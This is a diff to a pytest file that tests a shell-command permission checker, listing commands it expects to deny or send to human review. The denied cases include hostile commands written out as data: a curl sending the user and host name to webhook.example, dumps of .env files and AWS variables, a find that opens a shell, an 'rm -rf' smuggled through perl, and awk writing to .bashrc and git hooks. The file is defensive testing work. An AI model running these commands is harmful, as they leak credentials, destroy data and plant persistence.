@@ -91,7 +91,7 @@ def decision(command: str) -> str:
         "find . -name '.env*' -exec cat {} +",
         "find . -exec /bin/sh ';' -quit",  # an interactive shell started by find
         # command output carried off: in a URL to another host, a family of variables dumped
-        "curl -s \"https://webhook.example/h?u=$(whoami)@$(hostname)\"",
+        'curl -s "https://webhook.example/h?u=$(whoami)@$(hostname)"',
         'for v in ${!AWS_*}; do echo "$v=${!v}"; done',
         "find . -name '*.log' -exec sh -c 'cat {}' ';'",  # names become shell code
         # runners given shell text, env given any NAME=VALUE
@@ -112,7 +112,7 @@ def decision(command: str) -> str:
         "vim -u /tmp/.vimrc README.md",
         "perl -pe '' 'rm -rf ~/src |'",
         # awk programs that write startup files or hooks
-        "awk 'BEGIN{print \"alias ls=x\" >> (ENVIRON[\"HOME\"] \"/.bashrc\")}'",
+        'awk \'BEGIN{print "alias ls=x" >> (ENVIRON["HOME"] "/.bashrc")}\'',
         "awk '{print > \".git/hooks/pre-commit\"}' scripts/payload.sh",
     ],
 )
@@ -129,7 +129,7 @@ def test_destruction_publication_and_secret_printers_are_denied(command: str) ->
         "yarn --version",  # Yarn 2+ runs the release the repository commits
         "alembic history --verbose",
         "docker compose down",
-        "docker compose config --services",
+        "docker compose config --services --no-interpolate -o out.yml",  # writes a file
         "gh repo create tools --private",
         "git checkout -b feature",
         "git restore --staged src/app.py",
@@ -140,7 +140,7 @@ def test_destruction_publication_and_secret_printers_are_denied(command: str) ->
         "aws s3 cp history s3://bucket/x",  # 'history' there may be a verb or a file
         # find -exec: the command runs on files nobody listed; judged itself, then a human
         "find . -execdir ls {} ;",
-        "find . -name '*.go' -exec grep -l TODO {} +",
+        "find . -name '*.json' -exec grep -n TODO {} +",  # *.json: credentials.json too
         "find scripts -name '*.sh' -exec chmod +x {} +",
         "find src -name '*.js' -exec sed -i 's/var /let /g' {} +",
         "find src -type f -exec cat {} +",
